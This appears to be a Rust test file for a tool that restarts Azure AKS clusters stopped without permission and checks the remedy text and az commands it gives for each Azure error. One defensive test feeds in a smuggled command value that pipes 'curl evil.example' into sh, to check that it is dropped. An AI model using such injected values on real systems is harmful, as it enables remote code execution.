//! What people are told to do about each error of Azure.

use super::*;
use crate::domain::{Feature, Scope, Situation};

/// The incident of a case that is held by this, after `change` was made to it.
pub(super) fn told_of(held: Held, change: impl FnOnce(&mut Case)) -> Incident {
    let mut world = World::stopped_by(mallory());
    world.sees(Arm::Stopping, 11);
    let mut case = world.case().clone();
    case.held = Some(held);
    change(&mut case);
    let mut record = world.record.clone();
    super::super::super::report::held(&mut record, &mut case, &world.context(Some(&POLICIES), at(12)));
    record.outbox.last().unwrap().incident.clone()
}

fn refused_with(code: &str, lock: Option<Scope>, change: impl FnOnce(&mut Case)) -> Incident {
    let advice = "Start the cluster by hand and read the error that Azure gives.".to_owned();
    told_of(Held::Refused { code: code.to_owned(), advice, lock }, change)
}

fn first_step(incident: &Incident) -> &str {
    incident.next.first().map_or("", String::as_str)
}

#[test]
fn each_code_of_azure_has_its_own_remedy() {
    let codes = [
        "AuthorizationFailed",
        "DenyAssignmentAuthorizationFailed",
        "RequestDisallowedByPolicy",
        "QuotaExceeded",
        "AksCapacityHeavyUsage",
        "ZonalAllocationFailed",
        "ReadOnlyDisabledSubscription",
        "SubscriptionRequestsThrottled",
        "OperationNotAllowed",
        "SomethingNew",
    ];
    let incidents = codes.map(|code| (code, refused_with(code, None, |_| {})));
    // The longest sentence that a sink shows whole.
    let is_short =
        |(_, incident): &(&str, Incident)| incident.next.iter().all(|step| step.chars().count() <= 400);
    assert!(incidents.iter().all(is_short), "{incidents:?}");
    let told = incidents.each_ref().map(|(code, incident)| format!("{code}: {}", first_step(incident)));
    insta::assert_snapshot!(told.join("\n"), @r"
    AuthorizationFailed: The guard's identity lacks `Microsoft.ContainerService/managedClusters/start/action` there. An owner or user access administrator of the subscription gives it the guard's role (docs/DEPLOY.md): `az role assignment create --assignee <the identity's object id> --role <the guard's role> --scope /subscriptions/aaaa0a0a-bb1b-cc2c-dd3d-eeeeee4e4e4e`.
    DenyAssignmentAuthorizationFailed: A deny assignment on the cluster or above it forbids it, whatever roles the guard has: `Access control (IAM)` in the portal lists it. Whoever owns the deployment stack or managed application that made it excludes the guard's identity there.
    RequestDisallowedByPolicy: An Azure Policy assignment forbids the start; the activity log names it. Its owner changes it, or exempts the cluster: `az policy exemption create --name aks-start --exemption-category Waiver --policy-assignment <its id> --scope '/subscriptions/aaaa0a0a-bb1b-cc2c-dd3d-eeeeee4e4e4e/resourceGroups/rg-prod/providers/Microsoft.ContainerService/managedClusters/aks-prod-01'`.
    QuotaExceeded: The subscription's quota is too small for the cluster's nodes: `az vm list-usage --subscription aaaa0a0a-bb1b-cc2c-dd3d-eeeeee4e4e4e --location <region> --output table` shows what uses it. Free some of it, or ask for more under Quotas in the portal.
    AksCapacityHeavyUsage: AKS itself has no room left in the region at the moment: start the cluster later, and ask Azure support if that lasts.
    ZonalAllocationFailed: Azure has no machines of the node pools' size there at the moment, and a stopped cluster's node pools can't be changed: start it later, and ask Azure support for capacity if that lasts.
    ReadOnlyDisabledSubscription: Subscription aaaa0a0a-bb1b-cc2c-dd3d-eeeeee4e4e4e is disabled, so Azure refuses every change (`az account show --subscription aaaa0a0a-bb1b-cc2c-dd3d-eeeeee4e4e4e --query state`). Its billing owner enables it again. AKS deletes the clusters of a subscription that stays suspended for 90 days.
    SubscriptionRequestsThrottled: Azure throttles requests in subscription aaaa0a0a-bb1b-cc2c-dd3d-eeeeee4e4e4e. That passes; find out what else sends so many if it doesn't.
    OperationNotAllowed: AKS refuses it in the cluster's state, or while another operation is under way: `az aks operation show-latest --subscription aaaa0a0a-bb1b-cc2c-dd3d-eeeeee4e4e4e --resource-group 'rg-prod' --name aks-prod-01` shows its last operation.
    SomethingNew: Start the cluster by hand and read the error that Azure gives.
    ");
}

#[test]
fn codes_are_told_apart_without_case_and_never_by_the_advice_that_an_older_version_stored() {
    let loud = refused_with("SCOPELOCKED", None, |_| {});
    assert_eq!(loud.next, refused_with("ScopeLocked", None, |_| {}).next);
    assert!(first_step(&loud).contains("az lock list"), "{:?}", loud.next);
}

#[test]
fn a_lock_is_named_by_where_it_is_and_linked() {
    let told = Scope::around(&cluster_id()).map(|scope| {
        let incident = refused_with("ScopeLocked", Some(scope), |_| {});
        let last = incident.links.last().unwrap();
        format!("{}\n  {}", first_step(&incident), last.label)
    });
    insta::assert_snapshot!(told.join("\n"), @r#"
    A read-only lock on the cluster forbids the start. Ask whoever set it; `az lock list --resource '/subscriptions/aaaa0a0a-bb1b-cc2c-dd3d-eeeeee4e4e4e/resourceGroups/rg-prod/providers/Microsoft.ContainerService/managedClusters/aks-prod-01' --query "[?level=='ReadOnly'].id"` shows it, `az lock delete --ids <its id>` removes it.
      activity log of aks-prod-01
    A read-only lock on resource group rg-prod forbids the start. Ask whoever set it; `az lock list --subscription aaaa0a0a-bb1b-cc2c-dd3d-eeeeee4e4e4e --resource-group 'rg-prod' --query "[?level=='ReadOnly'].id"` shows it, `az lock delete --ids <its id>` removes it.
      resource group rg-prod in the portal
    A read-only lock on subscription aaaa0a0a-bb1b-cc2c-dd3d-eeeeee4e4e4e forbids the start. Ask whoever set it; `az lock list --subscription aaaa0a0a-bb1b-cc2c-dd3d-eeeeee4e4e4e --query "[?level=='ReadOnly'].id"` shows it, `az lock delete --ids <its id>` removes it.
      subscription aaaa0a0a-bb1b-cc2c-dd3d-eeeeee4e4e4e in the portal
    A read-only lock on the cluster, its resource group or its subscription forbids the start. Ask whoever set it; `az lock list --subscription aaaa0a0a-bb1b-cc2c-dd3d-eeeeee4e4e4e --query "[?level=='ReadOnly'].id"` shows it, `az lock delete --ids <its id>` removes it.
      activity log of aks-prod-01
    "#);
}

#[test]
fn what_the_cluster_is_changes_the_remedy() {
    let has = |feature: Feature| move |case: &mut Case| case.setup.features = [feature].into();
    let told = [
        refused_with("QuotaExceeded", None, |case| case.setup.region = Some("westeurope".to_owned())),
        refused_with("BadRequest", None, has(Feature::AvailabilitySet)),
        refused_with("BadRequest", None, |_| {}),
        refused_with("OperationNotAllowed", None, has(Feature::NodeProvisioning)),
    ];
    insta::assert_snapshot!(told.each_ref().map(first_step).join("\n"), @r"
    The subscription's quota is too small for the cluster's nodes: `az vm list-usage --subscription aaaa0a0a-bb1b-cc2c-dd3d-eeeeee4e4e4e --location westeurope --output table` shows what uses it. Free some of it, or ask for more under Quotas in the portal.
    Its node pools are availability sets, and AKS can start scale sets only: ask Azure support, or build the cluster anew.
    Start the cluster by hand and read the error that Azure gives.
    AKS refuses it in the cluster's state, or since the cluster has node auto-provisioning: `az aks operation show-latest --subscription aaaa0a0a-bb1b-cc2c-dd3d-eeeeee4e4e4e --resource-group 'rg-prod' --name aks-prod-01` shows its last operation.
    ");
}

#[test]
fn a_cluster_that_is_down_too_long_is_told_by_what_it_is_doing() {
    let situations = [
        Situation::Stopping,
        Situation::Starting,
        Situation::Busy,
        Situation::Deleting,
        Situation::Unknown,
        Situation::Startable,
    ];
    let told = situations.map(|situation| {
        let incident = told_of(Held::TooLong { situation: Some(situation) }, |_| {});
        format!("{situation:?}: {}", incident.next.join(" / "))
    });
    insta::assert_snapshot!(told.join("\n"), @r"
    Stopping: Its stop takes unusually long, and until it is over Azure refuses a start; pod disruption budgets can hold it up. See how far it is: `az aks operation show-latest --subscription aaaa0a0a-bb1b-cc2c-dd3d-eeeeee4e4e4e --resource-group 'rg-prod' --name aks-prod-01`. / If it should run, start it: `az aks start --subscription aaaa0a0a-bb1b-cc2c-dd3d-eeeeee4e4e4e --resource-group 'rg-prod' --name aks-prod-01`. The guard closes this once it runs.
    Starting: Its start takes unusually long; another one would be refused. See how far it is: `az aks operation show-latest --subscription aaaa0a0a-bb1b-cc2c-dd3d-eeeeee4e4e4e --resource-group 'rg-prod' --name aks-prod-01`. Ask Azure support if it doesn't move.
    Busy: Wait for the operation that is under way, or end it: `az aks operation show-latest --subscription aaaa0a0a-bb1b-cc2c-dd3d-eeeeee4e4e4e --resource-group 'rg-prod' --name aks-prod-01` shows it. / If it should run, start it: `az aks start --subscription aaaa0a0a-bb1b-cc2c-dd3d-eeeeee4e4e4e --resource-group 'rg-prod' --name aks-prod-01`. The guard closes this once it runs.
    Deleting: Find out whether it is meant to be deleted (`az monitor activity-log list --resource-id '/subscriptions/aaaa0a0a-bb1b-cc2c-dd3d-eeeeee4e4e4e/resourceGroups/rg-prod/providers/Microsoft.ContainerService/managedClusters/aks-prod-01' --start-time 2026-09-14T17:00:00Z`).
    Unknown: See what state it is in: `az aks show --subscription aaaa0a0a-bb1b-cc2c-dd3d-eeeeee4e4e4e --resource-group 'rg-prod' --name aks-prod-01 --query '{power:powerState.code, provisioning:provisioningState}'`. Ask Azure support if Azure doesn't say. / If it should run, start it: `az aks start --subscription aaaa0a0a-bb1b-cc2c-dd3d-eeeeee4e4e4e --resource-group 'rg-prod' --name aks-prod-01`. The guard closes this once it runs.
    Startable: See in the timeline what kept the guard from starting it. / If it should run, start it: `az aks start --subscription aaaa0a0a-bb1b-cc2c-dd3d-eeeeee4e4e4e --resource-group 'rg-prod' --name aks-prod-01`. The guard closes this once it runs.
    ");
}

#[test]
fn the_error_behind_a_failed_state_or_look_decides_what_to_do() {
    let failed = |situation: Situation, code: Option<&'static str>| {
        move |case: &mut Case| {
            case.last_situation = Some(situation);
            case.fault = code.map(str::to_owned);
        }
    };
    let blind = || Held::TooLong { situation: None };
    let put_off = |case: &mut Case| {
        let state = put_off("Throttled");
        let (look_at, expires_at) = (at(11), at(71));
        case.intent = Some(Intent { n: 1, nonce: "nonce".to_owned(), look_at, expires_at, state });
    };
    let told = [
        told_of(Held::FailedState, failed(Situation::FailedRunning, None)),
        told_of(Held::FailedState, failed(Situation::FailedRunning, Some("QuotaExceeded"))),
        told_of(Held::FailedState, failed(Situation::FailedStopped, Some("AllocationFailed"))),
        told_of(Held::AttemptsUsed, failed(Situation::FailedStopped, None)),
        told_of(blind(), failed(Situation::Startable, Some("AuthorizationFailed"))),
        told_of(blind(), failed(Situation::Startable, None)),
        told_of(Held::TooLong { situation: Some(Situation::Startable) }, put_off),
    ];
    insta::assert_snapshot!(told.each_ref().map(brief).join("\n"), @r"
    [high] aks-prod-01 was stopped by mallory@contoso.com without permission and does not run: it is in a failed state that another start does not mend
      * See why it failed: `az aks operation show-latest --subscription aaaa0a0a-bb1b-cc2c-dd3d-eeeeee4e4e4e --resource-group 'rg-prod' --name aks-prod-01`.
      * Then let AKS bring it into line: `az resource update --ids '/subscriptions/aaaa0a0a-bb1b-cc2c-dd3d-eeeeee4e4e4e/resourceGroups/rg-prod/providers/Microsoft.ContainerService/managedClusters/aks-prod-01'`. The guard closes this once it runs.
    [high] aks-prod-01 was stopped by mallory@contoso.com without permission and does not run: it is in a failed state that another start does not mend
      * The subscription's quota is too small for the cluster's nodes: `az vm list-usage --subscription aaaa0a0a-bb1b-cc2c-dd3d-eeeeee4e4e4e --location <region> --output table` shows what uses it. Free some of it, or ask for more under Quotas in the portal.
      * Then let AKS bring it into line: `az resource update --ids '/subscriptions/aaaa0a0a-bb1b-cc2c-dd3d-eeeeee4e4e4e/resourceGroups/rg-prod/providers/Microsoft.ContainerService/managedClusters/aks-prod-01'`. The guard closes this once it runs.
    [high] aks-prod-01 was stopped by mallory@contoso.com without permission and does not run: it is in a failed state that another start does not mend
      * Azure has no machines of the node pools' size there at the moment, and a stopped cluster's node pools can't be changed: start it later, and ask Azure support for capacity if that lasts.
      * If it should run, start it: `az aks start --subscription aaaa0a0a-bb1b-cc2c-dd3d-eeeeee4e4e4e --resource-group 'rg-prod' --name aks-prod-01`. The guard closes this once it runs.
    [high] aks-prod-01 was stopped by mallory@contoso.com without permission and does not run: 3 attempts to start it failed
      * See why it failed: `az aks operation show-latest --subscription aaaa0a0a-bb1b-cc2c-dd3d-eeeeee4e4e4e --resource-group 'rg-prod' --name aks-prod-01`.
      * If it should run, start it: `az aks start --subscription aaaa0a0a-bb1b-cc2c-dd3d-eeeeee4e4e4e --resource-group 'rg-prod' --name aks-prod-01`. The guard closes this once it runs.
    [high] aks-prod-01 was stopped by mallory@contoso.com without permission and does not run: the guard can't look at it
      * The guard's identity lacks `Microsoft.ContainerService/managedClusters/read` there. An owner or user access administrator of the subscription gives it the guard's role (docs/DEPLOY.md): `az role assignment create --assignee <the identity's object id> --role <the guard's role> --scope /subscriptions/aaaa0a0a-bb1b-cc2c-dd3d-eeeeee4e4e4e`.
      * If it should run, start it: `az aks start --subscription aaaa0a0a-bb1b-cc2c-dd3d-eeeeee4e4e4e --resource-group 'rg-prod' --name aks-prod-01`. The guard closes this once it runs.
    [high] aks-prod-01 was stopped by mallory@contoso.com without permission and does not run: the guard can't look at it
      * Look at the cluster yourself, and find out why the guard can't: the timeline has Azure's answer.
      * If it should run, start it: `az aks start --subscription aaaa0a0a-bb1b-cc2c-dd3d-eeeeee4e4e4e --resource-group 'rg-prod' --name aks-prod-01`. The guard closes this once it runs.
    [high] aks-prod-01 was stopped by mallory@contoso.com without permission and does not run: it did not come up in time, and it is stopped
      * Azure throttles requests in subscription aaaa0a0a-bb1b-cc2c-dd3d-eeeeee4e4e4e. That passes; find out what else sends so many if it doesn't.
      * If it should run, start it: `az aks start --subscription aaaa0a0a-bb1b-cc2c-dd3d-eeeeee4e4e4e --resource-group 'rg-prod' --name aks-prod-01`. The guard closes this once it runs.
    ");
}

#[test]
fn what_an_event_claims_gets_into_a_command_only_if_it_is_a_guid() {
    let correlated = |id: &'static str| {
        move |case: &mut Case| {
            case.stops.iter_mut().for_each(|stop| stop.correlation_id = Some(id.to_owned()))
        }
    };
    let hostile = told_of(Held::Unconfirmed, correlated("x`; curl evil.example | sh; `"));
    insta::assert_snapshot!(first_step(&hostile), @"Ask mallory@contoso.com whether they stopped it: an event without a record in the activity log may be forged (`az monitor activity-log list --resource-id '/subscriptions/aaaa0a0a-bb1b-cc2c-dd3d-eeeeee4e4e4e/resourceGroups/rg-prod/providers/Microsoft.ContainerService/managedClusters/aks-prod-01' --start-time 2026-09-14T17:00:00Z`).");
    let guid = told_of(Held::Unconfirmed, correlated("DD2135D9-9a79-4a78-ad1a-ae540fdf44e7"));
    insta::assert_snapshot!(first_step(&guid), @"Ask mallory@contoso.com whether they stopped it: an event without a record in the activity log may be forged (`az monitor activity-log list --subscription aaaa0a0a-bb1b-cc2c-dd3d-eeeeee4e4e4e --correlation-id dd2135d9-9a79-4a78-ad1a-ae540fdf44e7 --start-time 2026-09-14T17:00:00Z`).");
}

#[test]
fn of_many_policies_a_sentence_names_the_first_cleaned_and_cut() {
    let mut policies: Vec<String> = (0..9).map(|n| format!("policy-{n}")).collect();
    policies[0] = format!("a\nb{}", "x".repeat(200));
    let title = told_of(Held::NotPermitted { policies }, |_| {}).title;
    assert!(
        title.contains("policies a\u{fffd}b") && title.ends_with("policy-4 and 4 more forbid a restart"),
        "{title}"
    );
    assert!(title.chars().count() < 300, "{title}");
}

/// The same for a container group: whatever went wrong, nothing is said that only a cluster has.
#[test]
fn nobody_is_told_of_aks_where_a_container_group_was_stopped() {
    let path = "resourceGroups/rg-jobs/providers/Microsoft.ContainerInstance/containerGroups/cg-worker";
    let group =
        ClusterId::parse(&format!("/subscriptions/aaaa0a0a-bb1b-cc2c-dd3d-eeeeee4e4e4e/{path}")).unwrap();
    let told = |held: Held, situation: Situation| {
        let mut world = World::stopped_by(mallory());
        world.sees(Arm::Stopping, 11);
        let mut case = world.case().clone();
        (case.held, case.last_situation) = (Some(held), Some(situation));
        let mut record = world.record.clone();
        record.cluster = group.clone();
        super::super::super::report::held(&mut record, &mut case, &world.context(Some(&POLICIES), at(12)));
        record.outbox.last().unwrap().incident.clone()
    };
    let refused = |code: &str| {
        let advice = "Start it by hand.".to_owned();
        told(Held::Refused { code: code.to_owned(), advice, lock: None }, Situation::Startable)
    };
    let situations = [
        Situation::Stopping,
        Situation::Starting,
        Situation::Busy,
        Situation::Deleting,
        Situation::Unknown,
        Situation::FailedRunning,
        Situation::FailedStopped,
    ];
    let too_long = |at: Situation| told(Held::TooLong { situation: Some(at) }, at);
    let mut incidents: Vec<Incident> = situations.into_iter().map(too_long).collect();
    incidents.extend(
        ["AuthorizationFailed", "QuotaExceeded", "ReadOnlyDisabledSubscription", "OperationNotAllowed"]
            .map(refused),
    );
    incidents.push(told(Held::FailedState, Situation::FailedRunning));
    incidents.push(told(Held::UnknownCaller, Situation::Startable));
    for incident in &incidents {
        let said = [incident.next.join("\n"), incident.warnings.join("\n")].join("\n");
        for word in ["AKS", "az aks", "aks ", "node", "Pods", "pods", "managedClusters", "cluster's"] {
            assert!(!said.contains(word), "`{word}` in: {said}");
        }
    }
    let place =
        "--subscription aaaa0a0a-bb1b-cc2c-dd3d-eeeeee4e4e4e --resource-group 'rg-jobs' --name cg-worker";
    let unknown = too_long(Situation::Unknown).next.join("\n");
    assert!(unknown.contains(&format!("`az container start {place}`")), "{unknown}");
    assert!(
        unknown.contains(&format!("`az container show {place} --query '{{power:instanceView.state")),
        "{unknown}"
    );
    let denied = refused("AuthorizationFailed").next.join("\n");
    assert!(denied.contains("lacks `Microsoft.ContainerInstance/containerGroups/start/action`"), "{denied}");
}
